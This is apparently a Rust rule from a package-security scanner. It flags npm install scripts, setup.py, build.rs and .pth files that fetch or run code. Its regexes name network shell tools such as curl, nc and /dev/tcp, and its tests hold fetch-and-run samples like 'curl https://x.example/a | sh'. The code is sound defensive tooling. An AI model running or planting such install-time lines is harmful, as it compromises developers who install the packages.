//! Code that runs when a package is installed or merely present.

use regex::Regex;
use serde_json::Value;

use crate::domain::{Confidence, Severity};
use crate::scan::file::FileText;
use crate::scan::findings::{Findings, Hit, in_file};
use crate::scan::rule::{Part, Rule, RuleMeta};

/// Finds install scripts in the manifests of packages.
pub(super) struct InstallScript {
    meta: RuleMeta,
    /// What fetches code or runs what it is given.
    fetches: Regex,
    /// What starts programs or reaches the network from a build file.
    reaches: Regex,
    /// What gets code from elsewhere, and what runs it.
    gets: Regex,
    runs: Regex,
}

/// Scripts that npm runs when a package is installed from the registry.
const ALWAYS: [&str; 3] = ["preinstall", "install", "postinstall"];
/// Scripts that npm runs when a package is installed from git, or packed.
const SOMETIMES: [&str; 4] = ["prepare", "preprepare", "postprepare", "prepublish"];

impl InstallScript {
    pub(super) fn new(meta: RuleMeta) -> Result<Self, regex::Error> {
        Ok(Self {
            meta,
            fetches: Regex::new(
                r"(?i)\b(?:curl|wget|iwr|invoke-webrequest|powershell|certutil|bitsadmin|nc|ncat)\b|https?://|/dev/tcp|\bbase64\b|\beval\b|\b(?:ba|z)?sh\s+-c\b|\b(?:node|python3?|perl|ruby)\s+-(?:e|c)\b|\bnpx\s+(?:-y\s+)?\S+@|\|\s*(?:ba|z)?sh\b",
            )?,
            reaches: Regex::new(
                r"\b(?:subprocess|os\.system|os\.popen|urllib\.request|urlopen|requests\.(?:get|post)|httpx\.|socket\.|exec\(|eval\(|ctypes|Command::new|reqwest|ureq|TcpStream|std::net)",
            )?,
            gets: Regex::new(
                r"\b(?:urlopen|urlretrieve|requests\.get|httpx\.get|b64decode|ureq::get|reqwest::)",
            )?,
            runs: Regex::new(
                r"\b(?:exec|eval)\s*\(|\bos\.(?:system|popen|exec\w*)\s*\(|\bsubprocess\.|\bCommand::new",
            )?,
        })
    }

    fn package(&self, file: &FileText<'_>, found: &mut Findings<'_>) {
        // What is no JSON is refused by npm itself; here it only runs no scripts.
        let Ok(package) = serde_json::from_str::<Value>(file.text()) else { return };
        let Some(scripts) = package.get("scripts").and_then(Value::as_object) else { return };
        for (name, script) in scripts {
            let Some(command) = script.as_str() else { continue };
            let usual = match name.as_str() {
                name if ALWAYS.contains(&name) => self.meta.severity,
                name if SOMETIMES.contains(&name) => Severity::Info,
                _ => continue,
            };
            let fetches = self.fetches.is_match(command);
            let severity = if fetches { Severity::Error } else { usual };
            let what = if fetches { "It fetches code or runs what it is given. " } else { "" };
            let message = match ALWAYS.contains(&name.as_str()) {
                true => format!("npm runs the script `{name}` on installation. {what}{}", self.meta.why),
                false => format!(
                    "npm runs the script `{name}` when the package is packed, or installed from a folder or repository; not when it is installed from a registry. {what}Where it runs, nobody has looked at what it does."
                ),
            };
            let line = format!("{name}: {command}");
            self.add(file, &format!("\"{name}\""), severity, &line, message, found);
        }
    }

    fn build_file(&self, file: &FileText<'_>, found: &mut Findings<'_>) {
        let code = String::from_utf8_lossy(file.code());
        let fetches = self.gets.is_match(&code) && self.runs.is_match(&code);
        let severity = match self.reaches.is_match(&code) {
            _ if fetches => Severity::Error,
            true => self.meta.severity,
            false => Severity::Info,
        };
        let what = if fetches { " It gets code from elsewhere, or hides it, and runs it." } else { "" };
        let message = format!("{} runs when the package is built.{what} {}", file.name(), self.meta.why);
        let first = self.reaches.find(&code).map_or("", |found| found.as_str());
        self.add(file, first, severity, first, message, found);
    }

    fn path_file(&self, file: &FileText<'_>, found: &mut Findings<'_>) {
        for line in
            file.text().lines().filter(|line| line.starts_with("import ") || line.starts_with("import\t"))
        {
            let message = format!("Python runs this line whenever it starts. {}", self.meta.why);
            self.add(file, line, Severity::Error, line, message, found);
        }
    }

    fn lock(&self, file: &FileText<'_>, found: &mut Findings<'_>) {
        let Ok(lock) = serde_json::from_str::<Value>(file.text()) else { return };
        let Some(packages) = lock.get("packages").and_then(Value::as_object) else { return };
        let runs = |(path, package): (&String, &Value)| {
            let wants = package.get("hasInstallScript") == Some(&Value::Bool(true));
            wants.then(|| path.rsplit("node_modules/").next().unwrap_or(path).to_owned())
        };
        let names: Vec<String> =
            packages.iter().filter(|(path, _)| !path.is_empty()).filter_map(runs).collect();
        if names.is_empty() {
            return;
        }
        let message =
            format!("{} dependencies want to run scripts on installation. {}", names.len(), self.meta.why);
        self.add(file, "\"hasInstallScript\"", Severity::Info, &names.join(", "), message, found);
    }

    fn add(
        &self,
        file: &FileText<'_>,
        mark: &str,
        severity: Severity,
        evidence: &str,
        message: String,
        found: &mut Findings<'_>,
    ) {
        let place = in_file(file, file.text().find(mark).unwrap_or(0));
        found.add_as(&self.meta, severity, Confidence::High, place, Hit::whole(evidence), Some(message));
    }
}

impl Rule for InstallScript {
    fn meta(&self) -> &RuleMeta {
        &self.meta
    }

    fn check(&self, part: &Part<'_>, found: &mut Findings<'_>) {
        let Part::File(file) = part else { return };
        match file.name() {
            "package.json" => self.package(file, found),
            "package-lock.json" | "npm-shrinkwrap.json" => self.lock(file, found),
            "setup.py" | "build.rs" => self.build_file(file, found),
            name if name.ends_with(".pth") => self.path_file(file, found),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::domain::Severity;
    use crate::scan::proof::{builtin, findings, severity};

    fn of(path: &str, text: &str) -> Option<Severity> {
        severity(builtin(), "install-script", path, text)
    }

    #[test]
    fn scripts_are_judged_by_when_they_run_and_what_they_do() {
        let script = |name: &str, command: &str| {
            of("package.json", &format!(r#"{{"scripts": {{"{name}": "{command}"}}}}"#))
        };
        assert_eq!(script("postinstall", "node setup.js"), Some(Severity::Warning));
        assert_eq!(script("preinstall", "curl https://x.example/a | sh"), Some(Severity::Error));
        assert_eq!(script("install", "node -e 'fetch(1)'"), Some(Severity::Error));
        assert_eq!(script("prepare", "npm run build"), Some(Severity::Info));
        assert_eq!(script("build", "tsc"), None);
        assert_eq!(of("other.json", r#"{"scripts": {"postinstall": "x"}}"#), None);
        assert_eq!(of("package.json", "{"), None);
    }

    #[test]
    fn what_does_not_run_from_a_registry_is_not_said_to() {
        let message = |name: &str| {
            let text = format!(r#"{{"scripts": {{"{name}": "npm run build"}}}}"#);
            findings(builtin(), "package.json", &text).remove(0).message
        };
        for name in ["prepare", "prepublish"] {
            assert!(message(name).contains("not when it is installed from a registry"), "{}", message(name));
        }
        assert!(message("postinstall").contains("on installation"), "{}", message("postinstall"));
    }

    #[test]
    fn build_files_and_path_files_are_noted() {
        assert_eq!(of("setup.py", "from setuptools import setup\nsetup()\n"), Some(Severity::Info));
        assert_eq!(of("setup.py", "import subprocess\nsubprocess.run(['x'])\n"), Some(Severity::Warning));
        let fetches = "from setuptools import setup\nexec(urlopen('https://x.example/a').read())\nsetup()\n";
        assert_eq!(of("setup.py", fetches), Some(Severity::Error));
        assert_eq!(of("setup.py", &fetches.replace("exec(", "print(")), Some(Severity::Warning));
        assert_eq!(of("build.rs", "fn main() {}"), Some(Severity::Info));
        assert_eq!(of("x.pth", "import os; os.system('x')\n"), Some(Severity::Error));
        assert_eq!(of("x.pth", "../src\n"), None);
    }

    #[test]
    fn dependencies_with_scripts_are_named() {
        let lock =
            r#"{"packages": {"": {}, "node_modules/a": {"hasInstallScript": true}, "node_modules/b": {}}}"#;
        assert_eq!(of("package-lock.json", lock), Some(Severity::Info));
        assert_eq!(of("package-lock.json", r#"{"packages": {"node_modules/b": {}}}"#), None);
    }
}
